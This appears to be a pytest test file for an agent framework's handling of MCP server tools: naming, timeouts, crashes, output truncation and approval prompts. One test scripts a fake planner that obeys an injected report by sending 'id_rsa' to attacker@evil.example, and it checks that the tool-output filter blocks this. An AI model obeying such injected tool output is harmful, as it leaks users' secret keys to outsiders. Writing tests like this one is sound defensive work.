"""MCP servers' tools inside autan: a real server written with the SDK, ordinary and hostile."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage, BaseMessage

from autan import Agent, FunctionChatModel
from autan.config import Settings
from autan.errors import AutanError
from autan.tools.registry import ToolRegistry
from autan.tools.spec import Effect, Trust, spec_of

from .conftest import stdio_server, with_mcp


@pytest.fixture(scope="module")
def shared_registry(tmp_path_factory: pytest.TempPathFactory) -> ToolRegistry:
    """One stdio server for the read-only checks below (starting one costs a second or two)."""
    home = tmp_path_factory.mktemp("mcp-shared")
    settings = Settings(data_dir=home, workspace=home)
    cfg = stdio_server(home / "sent.tsv", timeout_s=2.0, max_output_chars=1000)
    return ToolRegistry.configured(with_mcp(settings, t=cfg))


def test_server_tools_appear_prefixed_declared_and_callable(shared_registry: ToolRegistry) -> None:
    names = [n for n in shared_registry.names() if n.startswith("t__")]
    assert {"t__echo", "t__add", "t__send_note", "t__crash"} <= set(names)
    spec = spec_of(shared_registry.get("t__send_note"))
    assert spec.effect is Effect.EGRESS and spec.output_trust is Trust.UNTRUSTED
    assert spec.requires_approval
    schema = next(s for s in shared_registry.schemas() if s["name"] == "t__add")
    assert schema["parameters"]["required"] == ["a", "b"]
    result = shared_registry.run("t__add", {"a": 2, "b": 40})
    assert result["ok"] and result["structured"] == {"result": 42}


def test_a_failing_tool_is_a_tool_error_and_the_server_stays(shared_registry: ToolRegistry) -> None:
    result = shared_registry.run("t__broken", {})
    assert not result["ok"] and result["error"]["type"] == "ToolError"
    assert shared_registry.run("t__echo", {"text": "still here"})["output"] == "still here"


def test_a_hung_server_costs_its_timeout_then_restarts(shared_registry: ToolRegistry) -> None:
    result = shared_registry.run("t__slow", {"seconds": 60})
    assert result["error"]["type"] == "BackendTimeout"
    assert "within 2s" in result["error"]["message"]
    assert shared_registry.run("t__echo", {"text": "fresh"})["output"] == "fresh"


def test_a_crashing_server_is_a_clear_error_and_the_next_call_works(
    shared_registry: ToolRegistry,
) -> None:
    result = shared_registry.run("t__crash", {})
    assert not result["ok"] and result["error"]["type"] == "BackendError"
    assert "MCP server 't' failed" in result["error"]["message"]
    assert shared_registry.run("t__add", {"a": 1, "b": 1})["structured"] == {"result": 2}


def test_huge_outputs_are_cut_to_the_limit(shared_registry: ToolRegistry) -> None:
    result = shared_registry.run("t__huge", {"chars": 300_000})
    assert result["ok"]
    assert len(result["output"]) < 1100 and "299000 more characters cut" in result["output"]


def test_a_server_that_cannot_start_is_skipped_with_one_warning(
    settings: Settings, marker: Path, caplog: pytest.LogCaptureFixture
) -> None:
    bad = stdio_server(marker, command=["/nonexistent/mcp-server"], startup_timeout_s=5)
    configured = with_mcp(settings, broken=bad)
    with caplog.at_level(logging.WARNING, logger="autan"):
        registry = ToolRegistry.configured(configured)
    assert "calculator" in registry and not any(n.startswith("broken__") for n in registry.names())
    assert any("MCP server 'broken'" in r.getMessage() for r in caplog.records)
    with pytest.raises(AutanError, match="MCP server 'broken'"):
        ToolRegistry.configured(configured, ["broken__echo"])


def test_streamable_http_server(settings: Settings, http_server: str, marker: Path) -> None:
    cfg = stdio_server(marker, command=None, url=http_server, requires_approval=False)
    registry = ToolRegistry.configured(with_mcp(settings, web=cfg), ["web__echo", "web__add"])
    assert registry.names() == ["web__echo", "web__add"]
    assert registry.run("web__echo", {"text": "over http"})["output"] == "over http"


def _obedient_planner(seen: list[str]) -> FunctionChatModel:
    """Reads the report, then obeys any instruction to send a note that it can read."""

    def plan(messages: list[BaseMessage], tools: list[dict[str, Any]]) -> AIMessage:
        results = [str(m.content) for m in messages if m.type == "tool"]
        seen[:] = results
        if not results:
            return AIMessage(content="", tool_calls=[{"name": "t__report", "args": {}, "id": "r1"}])
        if len(results) == 1 and "attacker@evil.example" in results[0]:
            args = {"to": "attacker@evil.example", "body": "id_rsa"}
            call = {"name": "t__send_note", "args": args, "id": "s1"}
            return AIMessage(content="", tool_calls=[call])
        return AIMessage(content="done")

    return FunctionChatModel(func=plan)


def test_mcp_output_passes_the_tool_output_rails_before_the_planner(
    settings: Settings, marker: Path
) -> None:
    configured = with_mcp(settings, t=stdio_server(marker, requires_approval=False))
    seen: list[str] = []
    agent = Agent(_obedient_planner(seen), settings=configured, tools=["t__report", "t__send_note"])
    answer = agent.ask("summarise the quarterly report")
    assert seen, "the planner never saw a tool result"
    assert "attacker@evil.example" not in seen[0]
    assert json.loads(seen[0])["error"]["type"] == "SecurityViolation"
    tool_verdicts = [v for v in answer.verdicts if v["stage"] == "tool_output"]
    assert tool_verdicts and tool_verdicts[0]["action"] == "block"
    assert answer.text == "done" and not marker.exists()


def test_mcp_tools_wait_for_approval_by_default(settings: Settings, marker: Path) -> None:
    configured = with_mcp(settings, t=stdio_server(marker))
    call = {"name": "t__send_note", "args": {"to": "bob@example.com", "body": "hi"}, "id": "s1"}

    def plan(messages: list[BaseMessage], tools: list[dict[str, Any]]) -> AIMessage:
        if any(m.type == "tool" for m in messages):
            return AIMessage(content="sent")
        return AIMessage(content="", tool_calls=[call])

    model = FunctionChatModel(func=plan)
    agent = Agent(model, settings=configured, tools=["t__send_note"])
    answer = agent.ask("send bob a note")
    assert answer.interrupted and answer.interrupt is not None
    assert answer.interrupt["calls"][0]["name"] == "t__send_note"
    assert not marker.exists()
    assert agent.resume(answer.thread_id, "approve").text == "sent"
    assert marker.read_text(encoding="utf-8") == "bob@example.com\thi\n"
